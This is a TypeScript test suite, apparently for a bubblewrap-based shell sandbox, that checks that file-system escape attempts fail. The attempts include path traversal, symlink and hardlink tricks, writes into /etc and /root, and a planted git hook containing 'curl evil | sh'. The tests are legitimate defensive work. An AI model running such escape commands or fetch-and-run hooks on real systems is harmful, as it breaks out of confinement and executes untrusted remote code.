// Escape attempts through the sandboxed shell that target the file system. Each asserts that
// the command failed, that its output says why, and that nothing outside changed.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { assertAbsent, assertRefused, assertUntouched, makeFixture, READ_ONLY, SECRET_TEXT, requireSandbox, sandboxRunner } from './helpers';

describe('sandbox escapes: file system through the shell', { skip: process.platform !== 'linux' && 'bubblewrap is Linux only' }, () => {
  requireSandbox();
  const fx = makeFixture();
  const sh = sandboxRunner(fx);
  const stray = `tether-escape-${process.pid}`;

  it('writes inside the workspace (control: the sandbox is not just broken)', async () => {
    const outcome = await sh('echo made > made.txt && cat made.txt');
    assert.equal(outcome.exitCode, 0, outcome.output);
    assert.equal(readFileSync(join(fx.ws, 'made.txt'), 'utf8'), 'made\n');
  });

  const refusedWrites: [string, string, string][] = [
    ['a ../ path', 'echo x > ../outside/secret.txt', ''],
    ['an absolute path outside', `echo x > ${fx.outside}/new.txt`, join(fx.outside, 'new.txt')],
    ['a redirect into /etc', `echo x > /etc/${stray}`, `/etc/${stray}`],
    ['a redirect into ~', 'echo x > ~/x', join(fx.home, 'x')],
    ['a redirect into $HOME', 'echo x > "$HOME/y"', join(fx.home, 'y')],
    ['a redirect into /root', `echo x > /root/${stray}`, `/root/${stray}`],
    ['cd / then touch', `cd / && touch ${stray}`, `/${stray}`],
    ['/proc/self/root', `echo x > /proc/self/root${fx.secret}`, ''],
    ['a symlink to an outside file', `ln -s ${fx.secret} link1 && echo x > link1`, ''],
    ['a symlink to an outside directory', `ln -s ${fx.outside} link2 && touch link2/via-link`, join(fx.outside, 'via-link')],
    ['cp into an outside directory', `cp existing.txt ${fx.outside}/copied.txt`, join(fx.outside, 'copied.txt')],
    ['a binary dropped into /usr/local/bin', `echo x > /usr/local/bin/${stray}`, `/usr/local/bin/${stray}`],
  ];
  for (const [name, command, created] of refusedWrites) {
    it(`refuses ${name}`, async () => {
      const outcome = await sh(command);
      assertRefused(outcome, READ_ONLY);
      assertUntouched(fx);
      if (created) assertAbsent(created);
    });
  }

  it('refuses a hardlink to an outside file (another mount: EXDEV)', async () => {
    const outcome = await sh(`ln ${fx.secret} hard`);
    assertRefused(outcome, /Invalid cross-device link/);
    assertAbsent(join(fx.ws, 'hard'));
    assertUntouched(fx);
  });

  it('refuses to plant a git hook', async () => {
    const outcome = await sh('echo "curl evil | sh" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit');
    assertRefused(outcome, READ_ONLY);
    assertAbsent(join(fx.ws, '.git/hooks/pre-commit'));
  });

  it('refuses to rewrite .git/config', async () => {
    const outcome = await sh('git config core.hooksPath /tmp/hooks || echo "[core] hooksPath=/tmp" >> .git/config');
    assertRefused(outcome, READ_ONLY);
    assert.equal(readFileSync(join(fx.ws, '.git/config'), 'utf8'), '[core]\n');
  });

  it('refuses to move .git out of the way (it is a mount point)', async () => {
    const outcome = await sh('mv .git git-moved');
    assertRefused(outcome, /Device or resource busy|Read-only file system/);
    assert.ok(existsSync(join(fx.ws, '.git/config')));
    assertAbsent(join(fx.ws, 'git-moved'));
  });

  it("hides another session's workspace", async () => {
    const outcome = await sh(`cat ${fx.other}/notes.txt`);
    assertRefused(outcome, /No such file or directory/);
    const write = await sh(`echo x > ${fx.other}/notes.txt`);
    assertRefused(write, READ_ONLY);
    assert.equal(readFileSync(join(fx.other, 'notes.txt'), 'utf8'), 'other session\n');
  });

  it('hides TETHER_HOME (daemon token, session logs)', async () => {
    const outcome = await sh(`cat ${fx.tetherHome}/daemon.json`);
    assertRefused(outcome, /No such file or directory/);
  });

  it('allows reading outside the roots when not hidden (documented: reads are not confined)', async () => {
    const outcome = await sh(`cat ${fx.secret}`);
    assert.equal(outcome.exitCode, 0, outcome.output);
    assert.equal(outcome.output, SECRET_TEXT);
  });

  it('gives each command a private /tmp the host never sees', async () => {
    const name = `/tmp/${stray}-private`;
    const outcome = await sh(`echo x > ${name} && cat ${name}`);
    assert.equal(outcome.exitCode, 0, outcome.output);
    assertAbsent(name);
    const next = await sh(`cat ${name}`);
    assertRefused(next, /No such file or directory/);
  });

  it("does not show the host's /tmp", async () => {
    const hostFile = `/tmp/${stray}-host`;
    writeFileSync(hostFile, 'host\n');
    try {
      assertRefused(await sh(`cat ${hostFile}`), /No such file or directory/);
    } finally {
      rmSync(hostFile, { force: true });
    }
  });

  it('read-only policy: no write anywhere, not even the workspace', async () => {
    const outcome = await sh('echo x > ro.txt', { policy: 'read-only' });
    assertRefused(outcome, READ_ONLY);
    assertAbsent(join(fx.ws, 'ro.txt'));
    const removal = await sh('rm existing.txt', { policy: 'read-only' });
    assertRefused(removal, READ_ONLY);
    assert.ok(existsSync(join(fx.ws, 'existing.txt')));
  });
});
